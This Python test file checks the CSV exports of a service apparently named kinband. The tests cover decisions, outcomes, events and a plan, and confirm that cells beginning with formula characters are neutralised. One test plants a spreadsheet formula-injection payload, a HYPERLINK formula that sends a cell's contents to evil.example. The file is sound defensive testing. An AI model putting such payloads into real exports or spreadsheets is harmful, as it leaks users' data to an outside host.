"""Files: whole, streamed, and harmless in a spreadsheet."""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from numpy.random import default_rng
from tests.support.http_service import STATIONS, AsgiTransport, Served, served

from kinband.service import tables
from kinband.service.running import application

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def service(tmp_path: Path) -> Iterator[Served]:
    with served(tmp_path) as found:
        yield found


def rows_of(service: Served, table: str) -> list[dict[str, str]]:
    answer = service.client("viewer").get(f"/v1/export/{table}.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert f'filename="{table}.csv"' in answer.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(answer.text)))


def live(service: Served, rounds: int) -> dict[str, float]:
    """Some rounds; what was told by decision."""
    rng, told = default_rng(5), dict[str, float]()
    for number in range(rounds):
        records = service.operations.ask({name: {"load": float(rng.random())} for name in STATIONS}, slot=f"@{number}")
        rewards = {record.id: float(rng.normal()) for record in records[:-1]}
        service.operations.tell(rewards, actor="-robot")
        service.operations.call_off(records[-1].id)
        told |= rewards
        service.clock.forward(hours=1)
    return told


def test_decisions_and_outcomes_are_all_there(service: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "AT_ONCE", 4)
    told = live(service, 3)
    decisions = rows_of(service, "decisions")
    assert [row["decision"] for row in decisions] == [f"d{number:06d}" for number in range(1, 10)]
    assert {row["decision"]: float(row["reward"]) for row in decisions if row["reward"]} == told
    assert {row["before_tilt"] for row in decisions} == {"4"}
    outcomes = rows_of(service, "outcomes")
    assert {row["decision"]: float(row["reward"]) for row in outcomes if row["called_off"] == "false"} == told
    assert [row["run_tilt"] for row in outcomes] == ["4"] * 9


def test_open_decisions_have_no_outcome(service: Served) -> None:
    service.operations.ask({"a": {"load": 0.5}})
    assert len(rows_of(service, "decisions")) == 1
    assert rows_of(service, "outcomes") == []


def test_events_come_in_blocks_without_gaps(service: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "AT_ONCE", 4)
    live(service, 2)
    events = rows_of(service, "events")
    recorded = list(service.operations.ledger.read())
    assert [int(row["seq"]) for row in events] == [event.seq for event in recorded]
    assert [json.loads(row["payload"]) for row in events] == [event.payload for event in recorded]


def test_no_cell_is_a_formula(service: Served) -> None:
    live(service, 2)
    evil = '=HYPERLINK("http://evil.example?"&A1)'
    service.operations.ask({"=c": {"load": 0.5}}, slot="+1+1", actor="@actor")
    with service.operations.looking() as read_model:
        waiting = [record.id for record in read_model.waiting()]
    service.operations.reject(waiting, comment=evil, actor="@actor")
    for table in ("decisions", "outcomes", "events"):
        for row in rows_of(service, table):
            for name, cell in row.items():
                assert not cell.startswith(FORMULAS) or _is_number(cell), (name, cell)
    last = rows_of(service, "decisions")[-1]
    assert (last["station"], last["slot"], last["comment"]) == ("'=c", "'+1+1", f"'{evil}")


def test_negative_numbers_stay_numbers() -> None:
    assert tables.csv_text([[-0.5, "-0.5", "-x", 3, None, False]]) == "-0.5,-0.5,'-x,3,,false\n"


def test_the_plan_is_no_formula_either(service: Served) -> None:
    service.operations.ask({"=c": {"load": 0.5}}, slot="=x", allowed={"=c": {"tilt": [6]}})
    text = service.client("viewer").get("/v1/plan?format=csv").text
    [row] = csv.DictReader(io.StringIO(text))
    assert (row["station"], row["slot"], row["set_tilt"]) == ("'=c", "'=x", "6")


def test_the_plan_is_one_file_whoever_gives_it(tmp_path: Path) -> None:
    pages = {"tokens": None, "insecure_local": True}
    with served(tmp_path, insecure_local=True) as service:
        app = application(service.operations, **pages)  # type: ignore[arg-type]
        service.operations.ask({name: {"load": 0.5} for name in STATIONS}, slot="s")
        service.operations.ask({"b": {"load": 0.1}}, slot="t", allowed={"b": {"tilt": [4, 6]}})
        with httpx.Client(transport=AsgiTransport(app, service.portal), base_url="http://localhost") as client:
            first, second = client.get("/v1/plan?format=csv"), client.get("/plan.csv")
            listed = client.get("/v1/plan").json()["decisions"]
    assert first.text == second.text
    assert first.headers["content-disposition"] == second.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(first.text)))
    assert [row["decision"] for row in rows] == [one["id"] for one in listed]
    assert [row["verdict"] for row in rows] == [one["verdict"]["outcome"] for one in listed]
    for row, record in zip(rows, listed, strict=True):
        assert (int(row["present_tilt"]), int(row["set_tilt"])) == (
            record["before"]["tilt"],
            record["proposed"]["tilt"],
        )
        low, gain, high = (float(row[name]) for name in ("gain_low", "expected_gain", "gain_high"))
        assert low < gain < high


def test_a_table_is_sent_piece_by_piece() -> None:
    made = 0

    def rows() -> Iterator[list[Any]]:
        nonlocal made
        for number in range(5 * tables.AT_ONCE):
            made += 1
            yield [number]

    answer = tables.csv_answer("x.csv", ["number"], rows())
    assert made == tables.AT_ONCE  # the first piece alone is there before anybody reads
    assert answer.media_type == "text/csv; charset=utf-8"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
